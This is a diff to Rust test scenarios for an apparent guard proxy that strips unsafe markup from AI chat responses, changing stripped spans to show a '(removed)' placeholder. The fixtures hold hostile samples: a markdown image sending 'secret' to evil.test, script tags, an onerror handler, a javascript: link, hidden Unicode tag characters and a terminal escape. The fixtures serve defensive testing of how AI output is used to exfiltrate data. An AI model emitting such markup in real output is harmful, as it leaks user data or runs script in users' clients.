@@ -221,42 +221,42 @@ fn markup() -> Vec<Scenario> {
         strips(
             "an image of a host that nobody listed",
             &["see ![x](https://ev", "il.test/p?q=secret) here"],
-            &["see ", " here"],
+            &["see (removed)", " here"],
             "external_image",
             1,
         ),
         strips(
             "a script",
             &["a <scr", "ipt>x", "</script> b"],
-            &["a ", "x", " b"],
+            &["a (removed)", "x", "(removed) b"],
             "script",
             2,
         ),
         strips(
             "an event handler",
             &["<img src=x one", "rror=\\\"f()\\\"> b"],
-            &["", " b"],
+            &["(removed)", " b"],
             "script",
             1,
         ),
         strips(
             "a link that runs script",
             &["[go](java", "script:f) b"],
-            &["", " b"],
+            &["(removed)", " b"],
             "script_url",
             1,
         ),
         strips(
             "text that nobody sees",
             &["a\u{e0041}\u{e0042}", "\u{e0043} b"],
-            &["a", " b"],
+            &["a(removed)", " b"],
             "hidden_output",
             1,
         ),
         strips(
             "a terminal's escape",
             &["a\\u001b", "[31mred"],
-            &["a", "red"],
+            &["a(removed)", "red"],
             "hidden_output",
             1,
         ),
@@ -274,7 +274,7 @@ fn markup() -> Vec<Scenario> {
             .given(guard("{}"))
             .request(chat("hi"))
             .upstream(json(200, completion("see ![x](https://evil.test/p?q=1) here")))
-            .then_all([client_gets(200), client_body(completion("see  here"))]),
+            .then_all([client_gets(200), client_body(completion("see (removed) here"))]),
         case("guard: markup in the answer of one's own policy ends it")
             .given(guard(
                 r#"{"policies": [{"rules": ["external_image"], "direction": "response", "action": "cut"}]}"#,
@@ -356,10 +356,14 @@ fn at_every_split() -> Vec<Scenario> {
     ]
 }
 
-/// A part of a text without a range of the whole.
+/// A part of a text without a range of the whole, whose stand-in goes where it begins.
 fn without(part: Range<usize>, out: &Range<usize>, text: &str) -> String {
-    let keep = |at: &usize| !out.contains(at);
-    part.filter(keep).map(|at| &text[at..=at]).collect()
+    let one = |at: usize| match at {
+        at if at == out.start => "(removed)",
+        at if out.contains(&at) => "",
+        at => &text[at..=at],
+    };
+    part.map(one).collect()
 }
 
 /// What may become a finding waits, and nothing else does.
@@ -465,26 +469,26 @@ fn framings() -> Vec<Scenario> {
             "chunks",
             chat("hi"),
             json(200, completion(image)).framed(Framing::Chunked),
-            completion("see  here"),
+            completion("see (removed) here"),
         ),
         all(
             "to the end of a connection",
             chat("hi"),
             json(200, completion(image)).framed(Framing::Close),
-            completion("see  here"),
+            completion("see (removed) here"),
         ),
         all(
             "with trailers",
             chat_stream("hi"),
             sse_of(&[image]).trailer("x-end", "yes"),
-            frames(&["see  here"]).concat(),
+            frames(&["see (removed) here"]).concat(),
         )
         .then(client_trailer("x-end", "yes")),
         all(
             "in gzip",
             chat_stream("hi"),
             head().data(gzip(frames(&[image]).concat().as_bytes())),
-            frames(&["see  here"]).concat(),
+            frames(&["see (removed) here"]).concat(),
         )
         .then(client_header_absent("content-encoding")),
         case("guard: a canary in a gzip stream")
